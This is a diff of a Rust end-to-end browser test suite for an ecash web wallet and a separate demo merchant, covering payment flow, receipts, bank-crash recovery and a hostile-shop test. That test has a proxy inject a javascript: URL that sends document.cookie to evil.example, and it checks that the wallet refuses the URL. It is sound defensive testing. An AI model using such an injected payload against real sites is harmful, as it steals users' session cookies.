@@ -1,28 +1,60 @@
 //! The web wallet end to end, in real headless Chromium, against the real
-//! mint-server serving the Trunk-built app and the demo shop: create, faucet,
-//! withdraw, pay through the shop's link, fulfillment page, reload, send to a
-//! second browser profile; too little money; the bank stopped mid-payment.
+//! mint-server serving the Trunk-built app and the demo merchant, a process
+//! of its own on its own origin that banks at the mint over HTTP: create,
+//! faucet, withdraw, the shop's catalogue, order and pay through its link
+//! (wallet → merchant → bank, each step checked), fulfillment page with the
+//! sticker as an image and a readable receipt, the shop keeper's orders
+//! page, reload, send to a second browser profile; too little money; the
+//! bank killed mid-payment (the merchant stays up) and restarted.
 //! Each step saves a screenshot under `target/e2e-screenshots/`.
+
+// Test code: a helper that meets what it did not expect panics, as the
+// tests themselves do (clippy.toml allows it only inside #[test] functions).
+#![allow(clippy::expect_used, clippy::unwrap_used)]
 
 use std::time::{Duration, Instant};
 
 use browser_e2e::*;
+use ecash_core::shop::{GoodsKind, OrderState};
 
 fn money(s: &str) -> impl Fn(&str) -> bool + '_ {
     move |t: &str| t.trim() == s
 }
 
+/// The `<dd>` after the receipt's `<dt>` named `term`.
+async fn receipt_row(c: &fantoccini::Client, term: &str) -> String {
+    let v = c
+        .execute(
+            "const dts = [...document.querySelectorAll('#receipt dt')]; \
+             const dt = dts.find((d) => d.textContent === arguments[0]); \
+             return dt && dt.nextElementSibling ? dt.nextElementSibling.textContent : null;",
+            vec![serde_json::json!(term)],
+        )
+        .await
+        .expect("read the receipt");
+    v.as_str()
+        .unwrap_or_else(|| panic!("no {term:?} row in the receipt"))
+        .to_owned()
+}
+
 #[tokio::test(flavor = "current_thread")]
 async fn wallet_and_shop_in_the_browser() {
-    let mut mint = Mint::start();
+    let mut mint = wallet_mint(&[]);
+    let merchant = merchant_at(&mint, &[]);
     let driver = Driver::start();
     let profiles = tempfile::tempdir().expect("profiles");
     let a = driver.session(&profiles.path().join("a")).await;
-    let url = mint.url.clone();
+    let url = mint.url().to_owned();
+    let wallet = wallet_url(&mint);
+    let shop_url = merchant.url().to_owned();
+    assert_ne!(shop_url, url, "the shop has an origin of its own");
+    let shop = shop_client(&shop_url);
+    let bank = bank_client(&url);
+    let shop_page = |path: String| format!("{shop_url}{path}");
 
     // 1. Open the wallet and create it; the seed is shown once.
     let t0 = Instant::now();
-    a.goto(&format!("{url}/")).await.expect("open wallet");
+    a.goto(&wallet).await.expect("open wallet");
     click(&a, "#create").await;
     let seed = wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
     assert_eq!(seed.matches('-').count(), 15);
@@ -58,16 +90,36 @@ async fn wallet_and_shop_in_the_browser() {
     let coins = text(&a, "#denominations tbody").await;
     assert!(!coins.trim().is_empty(), "coins by denomination are listed");
 
-    // 3. The shop: pick an item and order it (a POST: looking stores nothing).
-    a.goto(&format!("{url}/shop")).await.expect("shop");
-    a.goto(&format!("{url}/shop/item/sticker"))
+    // 3. The shop, at the merchant's own URL: the catalogue links each
+    // item; pick one and order it (a POST: looking stores nothing).
+    a.goto(&shop_page(api::CataloguePage::path(&())))
         .await
-        .expect("item");
+        .expect("shop");
+    wait_text(&a, "#items", "the catalogue", |t| !t.trim().is_empty()).await;
+    screenshot(&a, "03a-catalogue").await;
+    click(
+        &a,
+        &format!("#items a[href='{}']", api::ItemPage::path("sticker")),
+    )
+    .await;
     click(&a, "#buy").await;
     wait_text(&a, "#pay-link", "pay link", |t| {
         t.contains("Pay with Ecash")
     })
     .await;
+    let here = a.current_url().await.expect("url").to_string();
+    let order_id = here
+        .strip_prefix(&shop_page(api::OrderPage::path("")))
+        .unwrap_or_else(|| panic!("the order page is the shop's: {here}"))
+        .to_owned();
+    assert!(!order_id.is_empty(), "{here}");
+    // The link leads to the wallet (the bank's URL by default) with the
+    // shop's payment request address in the fragment.
+    assert_eq!(
+        attr(&a, "#pay-link", "href").await.as_deref(),
+        Some(pay_link(&wallet, &shop.payreq_url(&order_id)).as_str()),
+        "the pay link"
+    );
     screenshot(&a, "03-shop-order").await;
 
     // 4. Pay through the link flow.
@@ -75,39 +127,153 @@ async fn wallet_and_shop_in_the_browser() {
     let amount = wait_text(&a, "#pay-amount", "payment amount", |t| t.contains("DEMO")).await;
     assert_eq!(amount.trim(), "0.99 DEMO");
     assert!(!text(&a, "#pay-description").await.trim().is_empty());
-    assert!(text(&a, "#pay-merchant").await.contains("demo-bank"));
+    let payee = text(&a, "#pay-merchant").await;
+    assert!(
+        payee.contains("demo-bank") && payee.contains(&merchant.account_id),
+        "the shop's account at its bank: {payee}"
+    );
     assert_eq!(
         text(&a, "#pay-origin").await.trim(),
-        url,
-        "the shop's site is shown"
+        shop_url,
+        "the shop's site (the merchant's origin) is shown"
     );
     let here = a.current_url().await.expect("url").to_string();
     assert!(
-        !here.contains("payreq"),
-        "the request left the address bar: {here}"
+        here.starts_with(&url) && !here.contains("payreq"),
+        "the wallet, and the request left the address bar: {here}"
     );
     screenshot(&a, "04-pay-confirm").await;
     click(&a, "#pay-confirm").await;
 
     // 5. Back at the shop's fulfillment page: goods and receipt.
-    wait_text(&a, "#goods-title", "the goods", |t| !t.is_empty()).await;
+    let title = wait_text(&a, "#goods-title", "the goods", |t| !t.is_empty()).await;
     let here = a.current_url().await.expect("url").to_string();
-    assert!(
-        here.contains("/shop/fulfillment/") && here.contains("#payment_id="),
-        "{here}"
+    let (page_url, fragment) = here.split_once('#').expect("a fragment");
+    assert_eq!(
+        page_url,
+        shop_page(api::FulfillmentPage::path(&order_id)),
+        "the shop's fulfillment page"
     );
     assert!(
         !here.contains('?'),
         "the payment id is in the fragment only: {here}"
     );
+    let payment_id = wallet_wasm::links::fragment_value(fragment, "payment_id")
+        .unwrap_or_else(|| panic!("a payment id in the fragment: {here}"));
+    // The sticker is an image: an <img> of an SVG data: URL, with a caption.
+    let src = attr(&a, "#goods figure.goods-image img", "src")
+        .await
+        .unwrap_or_default();
+    assert!(
+        src.starts_with("data:image/svg+xml"),
+        "the image: {src:.80}"
+    );
+    let alt = attr(&a, "#goods figure.goods-image img", "alt")
+        .await
+        .unwrap_or_default();
+    assert_eq!(alt, title, "the image is named");
+    let caption = text(&a, "#goods figure.goods-image figcaption").await;
+    assert!(caption.contains(&title), "the caption: {caption}");
+    let drawn = a
+        .execute(
+            "const i = document.querySelector('#goods img'); \
+             return i.complete && i.naturalWidth > 0;",
+            vec![],
+        )
+        .await
+        .expect("image state");
+    assert_eq!(drawn, serde_json::json!(true), "the image is drawn");
+    // The receipt, written for people.
     let receipt = text(&a, "#receipt").await;
     assert!(receipt.contains("0.99 DEMO"), "{receipt}");
-    assert!(!text(&a, "#goods").await.trim().is_empty());
+    assert_eq!(receipt_row(&a, "Amount").await, "0.99 DEMO");
+    assert_eq!(receipt_row(&a, "Order").await, order_id);
+    assert_eq!(receipt_row(&a, "Payment").await, payment_id);
+    assert!(!receipt_row(&a, "Shop's signature").await.is_empty());
+    let delivery = shop
+        .goods(
+            &order_id,
+            ecash_core::B32::from_b64(&payment_id).expect("a payment id"),
+        )
+        .await
+        .expect("the goods, again");
+    assert_eq!(delivery.kind, GoodsKind::SvgImage);
+    let shop_key = bank
+        .public_key(&merchant.account_id)
+        .await
+        .expect("the shop's key");
+    delivery
+        .receipt
+        .verify(&shop_key)
+        .expect("the receipt is signed by the shop's account key");
+    let date = receipt_row(&a, "Date").await;
+    let unix = delivery.receipt.body.date;
+    assert!(
+        !date.contains(&unix.to_string())
+            && date.contains(&year_of(unix).to_string())
+            && date.chars().any(|c| c.is_alphabetic()),
+        "a date for people, not unix time {unix}: {date:?}"
+    );
     screenshot(&a, "05-fulfillment").await;
+
+    // The payment went wallet → merchant → bank: the shop took it at its
+    // pay URL, deposited it at the bank, which credited the shop's account
+    // with this payment, and the shop keeper's list shows the order paid.
+    let paid_at_shop = format!("POST {} 200", api::Pay::path(&order_id));
+    assert!(
+        merchant.proc.log().contains(&paid_at_shop),
+        "the merchant took the payment:\n{}",
+        merchant.proc.log()
+    );
+    let deposited = format!("POST {} 200", api::Deposit::INFO.path);
+    assert!(
+        mint.proc.log().contains(&deposited),
+        "the merchant deposited it at the bank:\n{}",
+        mint.proc.log()
+    );
+    let st = shop_statement(&bank, &merchant).await;
+    assert_eq!(st.balance.value, 99, "the shop's account: {st:?}");
+    assert!(
+        st.ledger
+            .iter()
+            .any(|e| e.delta == 99 && e.reason == "deposit" && e.reference == payment_id),
+        "the bank credited this payment: {:?}",
+        st.ledger
+    );
+    let list = shop.orders(&merchant.admin_token).await.expect("orders");
+    let o = list
+        .orders
+        .iter()
+        .find(|o| o.payreq_id == order_id)
+        .expect("the order is listed");
+    assert_eq!((o.state, o.item_id.as_str()), (OrderState::Paid, "sticker"));
+    assert!(o.paid_at.is_some());
+    assert_eq!((list.paid, list.paid_value), (1, 99));
+
+    // The shop keeper's page: the token rides in the fragment.
+    a.goto(&format!(
+        "{}#key={}",
+        shop_page(api::OrdersPage::path(&())),
+        merchant.admin_token
+    ))
+    .await
+    .expect("orders page");
+    let row = format!("#orders tr[data-order='{order_id}']");
+    wait_text(&a, &format!("{row} td.state"), "the paid order", |t| {
+        t.trim() == "Paid"
+    })
+    .await;
+    assert!(text(&a, &row).await.contains("0.99 DEMO"));
+    let here = a.current_url().await.expect("url").to_string();
+    assert!(
+        !here.contains(&merchant.admin_token),
+        "the token left the address bar: {here}"
+    );
+    screenshot(&a, "05b-shop-orders").await;
 
     // 6. Reload the wallet: the balance persisted in IndexedDB.
     let t_load = Instant::now();
-    a.goto(&format!("{url}/")).await.expect("wallet again");
+    a.goto(&wallet).await.expect("wallet again");
     wait_text(
         &a,
         "#balance-total",
@@ -144,16 +310,9 @@ async fn wallet_and_shop_in_the_browser() {
         }
     };
     screenshot(&a, "07-send-token").await;
-    let link = a
-        .find(fantoccini::Locator::Css("#token-link"))
-        .await
-        .expect("token link")
-        .attr("href")
-        .await
-        .expect("href")
-        .expect("a link");
+    let link = attr(&a, "#token-link", "href").await.expect("a link");
     assert!(
-        link.starts_with(&format!("{url}/#token=ecash1")) && !link.contains('?'),
+        link.starts_with(&format!("{wallet}#token=ecash1")) && !link.contains('?'),
         "the token rides in the fragment: {link}"
     );
     click(&a, "#nav-balance").await;
@@ -167,7 +326,7 @@ async fn wallet_and_shop_in_the_browser() {
 
     // The second profile opens the link: the token arrives in the Receive screen.
     let b = driver.session(&profiles.path().join("b")).await;
-    b.goto(&format!("{url}/")).await.expect("open wallet b");
+    b.goto(&wallet).await.expect("open wallet b");
     click(&b, "#create").await;
     wait_text(&b, "#seed-phrase", "seed b", |t| t.len() == 79).await;
     click(&b, "#seed-ok").await;
@@ -197,7 +356,7 @@ async fn wallet_and_shop_in_the_browser() {
     screenshot(&b, "08-received-in-second-profile").await;
 
     // Failure: too little money shows the message; the balance is unchanged.
-    b.goto(&format!("{url}/shop/item/coffee"))
+    b.goto(&shop_page(api::ItemPage::path("coffee")))
         .await
         .expect("coffee");
     click(&b, "#buy").await;
@@ -213,20 +372,25 @@ async fn wallet_and_shop_in_the_browser() {
     click(&b, "#nav-balance").await;
     wait_text(&b, "#balance-total", "b unchanged", money("1.00 DEMO")).await;
 
-    // Failure: the bank stops mid-payment; after the restart, recovery
-    // finishes what was journaled. If the price needs change, the first round
-    // journals the change exchange (recovery gives the coins back as change)
-    // and the second round journals the payment itself (recovery pays).
+    // Failure: the bank stops (SIGKILL) mid-payment while the merchant
+    // stays up; after the bank restarts on the same port and data, recovery
+    // finishes what was journaled. If the price needs change, the first
+    // round journals the change exchange, which the wallet itself could not
+    // send to the bank (recovery gives the coins back as change); the second
+    // round journals the payment itself, which reached the shop, whose
+    // deposit met the dead bank: the shop answers `unavailable` and keeps
+    // the order for this payment, and recovery sends the same payment again
+    // (or the shop's own settler deposits it first), and it completes.
     let mut journaled_payment = false;
     for round in 1..=2 {
-        a.goto(&format!("{url}/shop/item/haiku"))
+        a.goto(&shop_page(api::ItemPage::path("haiku")))
             .await
             .expect("haiku");
         click(&a, "#buy").await;
         click(&a, "#pay-link").await;
         let price = wait_text(&a, "#pay-amount", "price", |t| t.contains("DEMO")).await;
         assert_eq!(price.trim(), "0.25 DEMO");
-        mint.kill();
+        mint.proc.kill();
         click(&a, "#pay-confirm").await;
         let msg = wait_text(&a, "#message", "bank down", |t| {
             t.contains("cannot be reached")
@@ -237,10 +401,15 @@ async fn wallet_and_shop_in_the_browser() {
         click(&a, "#nav-history").await;
         let pending = wait_text(&a, "#pending", "pending operation", |t| !t.is_empty()).await;
         journaled_payment = pending.contains("payment");
-        mint.restart();
-        a.goto(&format!("{url}/"))
-            .await
-            .expect("wallet after restart");
+        if journaled_payment {
+            assert!(
+                msg.contains("The shop's bank cannot be reached"),
+                "the shop met the dead bank, not the wallet: {msg}"
+            );
+        }
+        mint.proc.start_again();
+        assert_eq!(mint.url(), url, "the bank is back at its address");
+        a.goto(&wallet).await.expect("wallet after restart");
         wait_text(&a, "#message", "recovery report", |t| {
             t.contains("completed")
         })
@@ -268,6 +437,12 @@ async fn wallet_and_shop_in_the_browser() {
         }
     }
     assert!(journaled_payment, "a journaled payment was recovered");
+    // The recovered payment reached the bank through the shop: its account
+    // holds both payments, and the shop lists two orders paid.
+    let st = shop_statement(&bank, &merchant).await;
+    assert_eq!(st.balance.value, 99 + 25, "the shop's account: {st:?}");
+    let list = shop.orders(&merchant.admin_token).await.expect("orders");
+    assert_eq!((list.paid, list.paid_value), (2, 99 + 25), "{list:?}");
 
     println!(
         "E2E page load to usable wallet (reload, balance shown): {load_ms} ms; whole run {} s",
@@ -286,32 +461,34 @@ async fn a_hostile_shop_runs_no_script_in_the_wallet() {
     use std::sync::Arc;
     use std::sync::atomic::{AtomicBool, Ordering};
 
-    let shop_port = free_port();
-    let shop = format!("http://127.0.0.1:{shop_port}");
-    let mint = Mint::start_with(&["--public-url", &shop], true);
-    let url = mint.url.clone();
-    // The hostile shop: the demo shop behind a proxy that rewrites its
-    // payment answers (and, when asked, its payment requests).
+    let mint = wallet_mint(&[]);
+    let url = mint.url().to_owned();
+    let wallet = wallet_url(&mint);
+    // The hostile shop: the demo merchant behind a proxy (its public URL,
+    // so its links lead there) that rewrites its payment answers (and, when
+    // asked, its payment requests).
     let in_payreq = Arc::new(AtomicBool::new(false));
     let flag = in_payreq.clone();
     let payload = "javascript:document.title='pwned';fetch('//evil.example/'+document.cookie)";
-    let rewrite: Arc<browser_e2e::proxy::Rewrite> =
-        Arc::new(move |path: &str, body: &mut Vec<u8>| {
-            let answer = path.starts_with("/shop/api/pay/");
-            let payreq = path.starts_with("/shop/api/orders/") && flag.load(Ordering::SeqCst);
-            if !(answer || payreq) {
-                return;
-            }
-            if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
-                v["fulfillment_url"] = serde_json::json!(payload);
-                *body = serde_json::to_vec(&v).unwrap_or_default();
-            }
-        });
-    let upstream = url.trim_start_matches("http://").to_owned();
-    let _proxy = browser_e2e::proxy::Proxy::start(shop_port, &upstream, Some(rewrite));
+    let pay_prefix = api::Pay::path("");
+    let payreq_prefix = api::PayreqApi::path("");
+    let rewrite: Arc<Rewrite> = Arc::new(move |path: &str, body: &mut Vec<u8>| {
+        let answer = path.starts_with(&pay_prefix);
+        let payreq = path.starts_with(&payreq_prefix) && flag.load(Ordering::SeqCst);
+        if !(answer || payreq) {
+            return;
+        }
+        if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
+            v["fulfillment_url"] = serde_json::json!(payload);
+            *body = serde_json::to_vec(&v).unwrap_or_default();
+        }
+    });
+    let (merchant, proxy) = merchant_behind_proxy(&mint, mint.url(), Some(rewrite), &[]);
+    let shop_url = proxy.url.clone();
+    let shop = shop_client(&shop_url);
 
     // The wallet page carries the strict policy.
-    let csp = reqwest::get(format!("{url}/"))
+    let csp = reqwest::get(&wallet)
         .await
         .expect("wallet page")
         .headers()
@@ -327,7 +504,7 @@ async fn a_hostile_shop_runs_no_script_in_the_wallet() {
     let driver = Driver::start();
     let profiles = tempfile::tempdir().expect("profiles");
     let a = driver.session(&profiles.path().join("victim")).await;
-    a.goto(&format!("{url}/")).await.expect("open wallet");
+    a.goto(&wallet).await.expect("open wallet");
     click(&a, "#create").await;
     wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
     click(&a, "#seed-ok").await;
@@ -339,42 +516,20 @@ async fn a_hostile_shop_runs_no_script_in_the_wallet() {
     wait_text(&a, "#message", "withdrawn", |t| t.starts_with("Withdrew")).await;
     let title = a.title().await.expect("title");
 
+    // An order made at the shop's (proxy's) address: the wallet link that pays it.
     let order = |item: &'static str| {
-        let shop = shop.clone();
+        let (shop, wallet, shop_url) = (&shop, &wallet, &shop_url);
         async move {
-            let p: serde_json::Value = reqwest::Client::new()
-                .post(format!("{shop}/shop/api/orders"))
-                .json(&serde_json::json!({ "item_id": item }))
-                .send()
-                .await
-                .expect("order")
-                .json()
-                .await
-                .expect("payreq");
-            let u = format!(
-                "{shop}/shop/api/orders/{}",
-                p["payreq_id"].as_str().expect("id")
-            );
-            let enc: String = u
-                .bytes()
-                .map(|b| {
-                    if b.is_ascii_alphanumeric() {
-                        (b as char).to_string()
-                    } else {
-                        format!("%{b:02X}")
-                    }
-                })
-                .collect();
-            enc
+            let p = shop.order(item).await.expect("order");
+            assert!(p.pay_url.starts_with(shop_url.as_str()), "{}", p.pay_url);
+            pay_link(wallet, &shop.payreq_url(&p.payreq_id))
         }
     };
 
     // A payment request whose fulfillment URL is script: refused before paying.
     in_payreq.store(true, Ordering::SeqCst);
-    let enc = order("haiku").await;
-    a.goto(&format!("{url}/#payreq={enc}"))
-        .await
-        .expect("pay link");
+    let link = order("haiku").await;
+    a.goto(&link).await.expect("pay link");
     let msg = wait_text(&a, "#message", "refusal", |t| t.contains("cannot be paid")).await;
     assert!(msg.contains("javascript:"), "{msg}");
     assert!(text(&a, "#pay-confirm").await.is_empty(), "no pay button");
@@ -382,12 +537,10 @@ async fn a_hostile_shop_runs_no_script_in_the_wallet() {
     in_payreq.store(false, Ordering::SeqCst);
 
     // An honest-looking request, answered with a script URL after payment.
-    let enc = order("haiku").await;
-    a.goto(&format!("{url}/#payreq={enc}"))
-        .await
-        .expect("pay link");
+    let link = order("haiku").await;
+    a.goto(&link).await.expect("pay link");
     let site = wait_text(&a, "#pay-origin", "the shop's site", |t| !t.is_empty()).await;
-    assert_eq!(site.trim(), shop);
+    assert_eq!(site.trim(), shop_url);
     click(&a, "#pay-confirm").await;
     let msg = wait_text(&a, "#message", "the refused link", |t| {
         t.contains("will not follow")
@@ -401,6 +554,13 @@ async fn a_hostile_shop_runs_no_script_in_the_wallet() {
     screenshot(&a, "13-hostile-answer-refused").await;
     click(&a, "#nav-history").await;
     wait_text(&a, "#history", "the payment", |t| t.contains("Paid")).await;
+    // A real payment, made at the hostile shop's address: the shop banked it.
+    let st = shop_statement(&bank_client(&url), &merchant).await;
+    assert_eq!(st.balance.value, 25, "the shop's account: {st:?}");
+    assert!(
+        proxy.report().0 >= 3,
+        "orders and payment went through the proxy"
+    );
     let script_links = a
         .execute(
             "return document.querySelectorAll('a[href^=\"javascript:\"]').length",
